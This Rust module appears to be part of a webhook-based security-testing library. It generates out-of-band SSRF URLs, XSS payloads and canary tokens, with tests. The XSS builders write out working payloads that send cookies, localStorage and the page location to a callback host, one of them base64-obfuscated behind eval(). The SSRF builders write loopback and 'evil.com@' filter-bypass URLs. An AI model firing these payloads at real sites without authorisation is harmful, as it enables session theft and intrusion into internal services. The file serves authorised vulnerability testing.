//! Out-of-band test payloads that call back to a token.
//!
//! Each payload, once triggered by the system under test, shows up as a
//! captured item. [`WebhookClient::check_for_callbacks`](crate::WebhookClient::check_for_callbacks)
//! then reports which ones fired; an identifier tells injection points apart.
//!
//! # Example
//!
//! ```
//! use webhook_sync::payloads::{CanaryKind, Payloads, SsrfOptions};
//! use webhook_sync::{ServiceHosts, Token};
//!
//! let hosts = ServiceHosts::default();
//! let token = Token::parse("550e8400-e29b-41d4-a716-446655440000").unwrap();
//! let payloads = Payloads::new(&hosts, &token);
//!
//! let ssrf = payloads.ssrf(&SsrfOptions::new().identifier("param-q")).unwrap();
//! assert_eq!(
//!     ssrf.payloads["dns_payload"],
//!     "param-q.550e8400-e29b-41d4-a716-446655440000.dnshook.site"
//! );
//!
//! let canary = payloads.canary(CanaryKind::Email, None).unwrap();
//! assert_eq!(canary.token, "550e8400-e29b-41d4-a716-446655440000@email.webhook.site");
//! ```

use crate::endpoints::ServiceHosts;
use crate::error::{Error, Result};
use crate::token::Token;
use base64::prelude::*;
use serde::Serialize;
use std::collections::BTreeMap;
use std::fmt::Write;

const SSRF_TIPS: &[&str] = &[
    "Inject these URLs in parameters, headers and file imports",
    "DNS payloads detect SSRF even when the HTTP response is blocked",
    "Run check_for_callbacks to see which payload triggered",
];

const XSS_TIPS: &[&str] = &[
    "Try each payload in input fields, URL parameters and headers",
    "Cookie payloads see nothing when cookies are HttpOnly",
    "SVG and onerror variants pass some filters the script tag does not",
];

/// A named set of payloads.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PayloadSet {
    /// Token the payloads call back to.
    pub token: Token,
    /// Identifier embedded in the payloads.
    pub identifier: Option<String>,
    /// Payloads by name.
    pub payloads: BTreeMap<String, String>,
    /// How to use them.
    pub tips: Vec<&'static str>,
}

/// Options for [`Payloads::ssrf`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SsrfOptions {
    identifier: Option<String>,
    include_dns: bool,
    include_ip: bool,
}

impl Default for SsrfOptions {
    fn default() -> Self {
        Self {
            identifier: None,
            include_dns: true,
            include_ip: true,
        }
    }
}

impl SsrfOptions {
    /// Every payload family, no identifier.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Embeds `identifier` as a query parameter and DNS label.
    #[must_use]
    pub fn identifier(mut self, identifier: impl Into<String>) -> Self {
        self.identifier = Some(identifier.into());
        self
    }

    /// Whether to include DNS names.
    #[must_use]
    pub fn include_dns(mut self, include: bool) -> Self {
        self.include_dns = include;
        self
    }

    /// Whether to include loopback-bypass and encoded URL variants.
    #[must_use]
    pub fn include_ip(mut self, include: bool) -> Self {
        self.include_ip = include;
        self
    }
}

/// Options for [`Payloads::xss`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XssOptions {
    identifier: Option<String>,
    include_cookies: bool,
    include_dom: bool,
}

impl Default for XssOptions {
    fn default() -> Self {
        Self {
            identifier: None,
            include_cookies: true,
            include_dom: true,
        }
    }
}

impl XssOptions {
    /// Every payload family, no identifier.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Embeds `identifier` as a query parameter.
    #[must_use]
    pub fn identifier(mut self, identifier: impl Into<String>) -> Self {
        self.identifier = Some(identifier.into());
        self
    }

    /// Whether to include cookie exfiltration payloads.
    #[must_use]
    pub fn include_cookies(mut self, include: bool) -> Self {
        self.include_cookies = include;
        self
    }

    /// Whether to include page-location capture payloads.
    #[must_use]
    pub fn include_dom(mut self, include: bool) -> Self {
        self.include_dom = include;
        self
    }
}

/// Where a canary token is planted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum CanaryKind {
    /// A URL that records every visit.
    Url,
    /// A host name that records every lookup.
    Dns,
    /// A mailbox that records every message.
    Email,
}

/// A canary token and how to plant it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Canary {
    /// Where the canary is planted.
    pub kind: CanaryKind,
    /// Identifier embedded in the canary.
    pub identifier: Option<String>,
    /// The value to plant.
    pub token: String,
    /// Alternative forms of the same canary.
    pub variants: BTreeMap<String, String>,
    /// How to plant it.
    pub instructions: Vec<&'static str>,
}

/// Payload generator for one token.
#[derive(Debug, Clone, Copy)]
pub struct Payloads<'a> {
    hosts: &'a ServiceHosts,
    token: &'a Token,
}

impl<'a> Payloads<'a> {
    /// Generates payloads calling back to `token` on `hosts`.
    #[must_use]
    pub fn new(hosts: &'a ServiceHosts, token: &'a Token) -> Self {
        Self { hosts, token }
    }

    /// URLs and host names for server-side request forgery probes.
    ///
    /// # Errors
    ///
    /// Returns [`Error::InvalidIdentifier`] for an identifier that cannot be
    /// used as a DNS label.
    pub fn ssrf(&self, options: &SsrfOptions) -> Result<PayloadSet> {
        let identifier = validated(options.identifier.as_deref())?;
        let id_param = identifier.map_or(String::new(), |id| format!("?id={id}"));
        let id_label = identifier.map_or(String::new(), |id| format!("{id}."));
        let token = self.token;
        let web = &self.hosts.web_base;
        let host = self.web_host();
        let dns = &self.hosts.dns_domain;

        let mut payloads = BTreeMap::new();
        let mut add = |name: &str, value: String| {
            payloads.insert(name.to_string(), value);
        };

        add("http_url", format!("http://{host}/{token}{id_param}"));
        add("https_url", format!("{web}/{token}{id_param}"));
        add(
            "subdomain_url",
            format!("https://{token}.{}{id_param}", self.hosts.subdomain_domain),
        );

        if options.include_dns {
            add("dns_payload", format!("{id_label}{token}.{dns}"));
            add("dns_with_data", format!("ssrf.{id_label}{token}.{dns}"));
        }

        if options.include_ip {
            add(
                "localhost_bypass",
                format!("http://127.0.0.1.nip.io/{token}{id_param}"),
            );
            // 127.0.0.1 as one decimal number
            add("decimal_ip", format!("http://2130706433/{token}{id_param}"));
            add("url_encoded", percent_encode(&format!("{web}/{token}{id_param}")));
            add(
                "double_encoded",
                percent_encode(&percent_encode(&format!("{web}/{token}"))),
            );
        }

        add("at_bypass", format!("https://evil.com@{host}/{token}"));
        add("hash_bypass", format!("{web}/{token}#@evil.com"));
        add("redirect_chain", format!("{web}/{token}?redirect=true"));

        Ok(self.set(identifier, payloads, SSRF_TIPS))
    }

    /// Script and markup payloads for cross-site scripting probes.
    ///
    /// # Errors
    ///
    /// Returns [`Error::InvalidIdentifier`] for a malformed identifier.
    pub fn xss(&self, options: &XssOptions) -> Result<PayloadSet> {
        let identifier = validated(options.identifier.as_deref())?;
        let id = identifier.map_or(String::new(), |id| format!("&id={id}"));
        let callback = format!("{}/{}", self.hosts.web_base, self.token);

        let mut payloads = BTreeMap::new();
        let mut add = |name: &str, value: String| {
            payloads.insert(name.to_string(), value);
        };

        add("basic_img", format!(r#"<img src="{callback}?xss=1{id}">"#));
        add(
            "basic_script",
            format!(r#"<script>fetch("{callback}?xss=1{id}")</script>"#),
        );

        if options.include_cookies {
            add(
                "cookie_steal",
                format!(r#"<script>fetch("{callback}?c="+document.cookie)</script>"#),
            );
            add(
                "cookie_img",
                format!(r#"<img src=x onerror="this.src='{callback}?c='+document.cookie">"#),
            );
        }

        if options.include_dom {
            add(
                "dom_info",
                format!(
                    r#"<script>fetch("{callback}?url="+encodeURIComponent(location.href)+"&ref="+encodeURIComponent(document.referrer)+"{id}")</script>"#
                ),
            );
            add(
                "full_capture",
                format!(
                    r#"<script>fetch("{callback}",{{method:"POST",body:JSON.stringify({{url:location.href,cookies:document.cookie,localStorage:JSON.stringify(localStorage)}})}})</script>"#
                ),
            );
        }

        add(
            "onerror",
            format!(r#"<img src=x onerror="fetch('{callback}?xss=onerror{id}')">"#),
        );
        add(
            "onload",
            format!(r#"<body onload="fetch('{callback}?xss=onload{id}')">"#),
        );
        add(
            "svg",
            format!(r#"<svg onload="fetch('{callback}?xss=svg{id}')">"#),
        );

        let encoded = BASE64_STANDARD.encode(format!("fetch('{callback}?xss=b64{id}')"));
        add("base64", format!(r#"<script>eval(atob("{encoded}"))</script>"#));
        add(
            "unicode",
            unicode_escape(&format!(r#"<script>fetch("{callback}?xss=uni{id}")</script>"#)),
        );

        Ok(self.set(identifier, payloads, XSS_TIPS))
    }

    /// A canary token: a URL, host name or mailbox that records any use.
    ///
    /// # Errors
    ///
    /// Returns [`Error::InvalidIdentifier`] for a malformed identifier.
    pub fn canary(&self, kind: CanaryKind, identifier: Option<&str>) -> Result<Canary> {
        let identifier = validated(identifier)?;
        let token = self.token;
        let mut variants = BTreeMap::new();

        let (value, instructions) = match kind {
            CanaryKind::Url => {
                let query = format!("?canary={}", identifier.unwrap_or("triggered"));
                variants.insert(
                    "short_url".to_string(),
                    format!("https://{token}.{}{query}", self.hosts.subdomain_domain),
                );
                (
                    format!("{}/{token}{query}", self.hosts.web_base),
                    vec![
                        "Embed the URL in documents, source code or configuration",
                        "Every visit is recorded with its IP and user agent",
                    ],
                )
            }
            CanaryKind::Dns => {
                let host = format!(
                    "{}.{token}.{}",
                    identifier.unwrap_or("canary"),
                    self.hosts.dns_domain
                );
                variants.insert("nslookup_command".to_string(), format!("nslookup {host}"));
                (
                    host,
                    vec![
                        "Every DNS lookup of the name is recorded",
                        "Embed it in host names, SSRF payloads or configuration",
                    ],
                )
            }
            CanaryKind::Email => {
                let mailbox = format!("{token}@{}", self.hosts.email_domain);
                variants.insert(
                    "display_format".to_string(),
                    format!("Confidential <{mailbox}>"),
                );
                (
                    mailbox,
                    vec![
                        "Every message to the address is recorded",
                        "Plant it as an internal contact in documents that should stay private",
                    ],
                )
            }
        };

        Ok(Canary {
            kind,
            identifier: identifier.map(str::to_string),
            token: value,
            variants,
            instructions,
        })
    }

    /// Host (and port) of the web base, without scheme.
    fn web_host(&self) -> &str {
        let web = self.hosts.web_base.as_str();
        web.split_once("://").map_or(web, |(_, host)| host)
    }

    fn set(
        &self,
        identifier: Option<&str>,
        payloads: BTreeMap<String, String>,
        tips: &[&'static str],
    ) -> PayloadSet {
        PayloadSet {
            token: self.token.clone(),
            identifier: identifier.map(str::to_string),
            payloads,
            tips: tips.to_vec(),
        }
    }
}

/// Accepts identifiers usable as a DNS label and a query value.
fn validated(identifier: Option<&str>) -> Result<Option<&str>> {
    let Some(identifier) = identifier else {
        return Ok(None);
    };
    let valid = (1..=63).contains(&identifier.len())
        && identifier
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-');
    if valid {
        Ok(Some(identifier))
    } else {
        Err(Error::invalid_identifier(identifier))
    }
}

/// Percent-encodes everything but unreserved characters and `/`.
fn percent_encode(text: &str) -> String {
    let mut encoded = String::with_capacity(text.len() * 3);
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || b"_.-~/".contains(&byte) {
            encoded.push(char::from(byte));
        } else {
            let _ = write!(encoded, "%{byte:02X}");
        }
    }
    encoded
}

/// Replaces non-ASCII characters and `<`, `>`, `"` with `\uXXXX` escapes.
fn unicode_escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        if !c.is_ascii() || matches!(c, '<' | '>' | '"') {
            let _ = write!(escaped, "\\u{:04x}", u32::from(c));
        } else {
            escaped.push(c);
        }
    }
    escaped
}

#[cfg(test)]
mod tests {
    use super::*;

    const TOKEN: &str = "550e8400-e29b-41d4-a716-446655440000";

    fn token() -> Token {
        Token::parse(TOKEN).unwrap()
    }

    #[test]
    fn test_ssrf_payloads_with_identifier() {
        let hosts = ServiceHosts::default();
        let token = token();
        let set = Payloads::new(&hosts, &token)
            .ssrf(&SsrfOptions::new().identifier("q1"))
            .unwrap();
        let p = &set.payloads;

        assert_eq!(set.identifier.as_deref(), Some("q1"));
        assert_eq!(p["http_url"], format!("http://webhook.site/{TOKEN}?id=q1"));
        assert_eq!(p["https_url"], format!("https://webhook.site/{TOKEN}?id=q1"));
        assert_eq!(p["subdomain_url"], format!("https://{TOKEN}.webhook.site?id=q1"));
        assert_eq!(p["dns_payload"], format!("q1.{TOKEN}.dnshook.site"));
        assert_eq!(p["dns_with_data"], format!("ssrf.q1.{TOKEN}.dnshook.site"));
        assert_eq!(p["decimal_ip"], format!("http://2130706433/{TOKEN}?id=q1"));
        assert_eq!(
            p["url_encoded"],
            format!("https%3A//webhook.site/{TOKEN}%3Fid%3Dq1")
        );
        assert_eq!(
            p["double_encoded"],
            format!("https%253A//webhook.site/{TOKEN}")
        );
        assert_eq!(p["at_bypass"], format!("https://evil.com@webhook.site/{TOKEN}"));
        assert_eq!(p.len(), 12);
    }

    #[test]
    fn test_ssrf_families_can_be_left_out() {
        let hosts = ServiceHosts::default();
        let token = token();
        let set = Payloads::new(&hosts, &token)
            .ssrf(&SsrfOptions::new().include_dns(false).include_ip(false))
            .unwrap();

        assert!(!set.payloads.contains_key("dns_payload"));
        assert!(!set.payloads.contains_key("decimal_ip"));
        assert_eq!(
            set.payloads["hash_bypass"],
            format!("https://webhook.site/{TOKEN}#@evil.com")
        );
        assert_eq!(set.payloads.len(), 6);
    }

    #[test]
    fn test_xss_payloads() {
        let hosts = ServiceHosts::default();
        let token = token();
        let set = Payloads::new(&hosts, &token)
            .xss(&XssOptions::new().identifier("form-7"))
            .unwrap();
        let p = &set.payloads;
        let callback = format!("https://webhook.site/{TOKEN}");

        assert_eq!(p["basic_img"], format!(r#"<img src="{callback}?xss=1&id=form-7">"#));
        assert_eq!(
            p["svg"],
            format!(r#"<svg onload="fetch('{callback}?xss=svg&id=form-7')">"#)
        );
        assert!(p["dom_info"].ends_with(r#"+"&id=form-7")</script>"#));
        assert!(p["full_capture"].contains(r#"{method:"POST",body:JSON.stringify({url:"#));

        let script = p["base64"]
            .strip_prefix(r#"<script>eval(atob(""#)
            .and_then(|rest| rest.strip_suffix(r#""))</script>"#))
            .unwrap();
        let decoded = String::from_utf8(BASE64_STANDARD.decode(script).unwrap()).unwrap();
        assert_eq!(decoded, format!("fetch('{callback}?xss=b64&id=form-7')"));

        assert!(p["unicode"].starts_with("\\u003cscript\\u003efetch(\\u0022https://"));
        assert_eq!(p.len(), 11);
    }

    #[test]
    fn test_xss_without_cookie_and_dom_payloads() {
        let hosts = ServiceHosts::default();
        let token = token();
        let set = Payloads::new(&hosts, &token)
            .xss(&XssOptions::new().include_cookies(false).include_dom(false))
            .unwrap();

        assert_eq!(set.payloads.len(), 7);
        assert!(set.payloads.values().all(|p| !p.contains("document.cookie")));
        assert!(set.payloads["basic_img"].ends_with("?xss=1\">"));
    }

    #[test]
    fn test_canaries() {
        let hosts = ServiceHosts::default();
        let token = token();
        let payloads = Payloads::new(&hosts, &token);

        let url = payloads.canary(CanaryKind::Url, None).unwrap();
        assert_eq!(url.token, format!("https://webhook.site/{TOKEN}?canary=triggered"));
        assert_eq!(
            url.variants["short_url"],
            format!("https://{TOKEN}.webhook.site?canary=triggered")
        );

        let dns = payloads.canary(CanaryKind::Dns, Some("backup-db")).unwrap();
        assert_eq!(dns.token, format!("backup-db.{TOKEN}.dnshook.site"));
        assert_eq!(
            dns.variants["nslookup_command"],
            format!("nslookup backup-db.{TOKEN}.dnshook.site")
        );

        let email = payloads.canary(CanaryKind::Email, None).unwrap();
        assert_eq!(
            email.variants["display_format"],
            format!("Confidential <{TOKEN}@email.webhook.site>")
        );
        assert!(!email.instructions.is_empty());
    }

    #[test]
    fn test_identifier_validation() {
        let hosts = ServiceHosts::default();
        let token = token();
        let payloads = Payloads::new(&hosts, &token);
        let too_long = "a".repeat(64);

        for bad in ["", "has space", "dot.ted", "a?b=c", too_long.as_str()] {
            let err = payloads.ssrf(&SsrfOptions::new().identifier(bad)).unwrap_err();
            assert!(matches!(err, Error::InvalidIdentifier { .. }), "{bad} should be rejected");
        }
        assert!(payloads.canary(CanaryKind::Dns, Some("ok_id-1")).is_ok());
    }

    #[test]
    fn test_self_hosted_web_base() {
        let hosts = ServiceHosts::with_web_base("http://hooks.internal:8084/");
        let token = token();
        let set = Payloads::new(&hosts, &token).ssrf(&SsrfOptions::new()).unwrap();

        assert_eq!(set.payloads["http_url"], format!("http://hooks.internal:8084/{TOKEN}"));
        assert_eq!(
            set.payloads["at_bypass"],
            format!("https://evil.com@hooks.internal:8084/{TOKEN}")
        );
    }
}
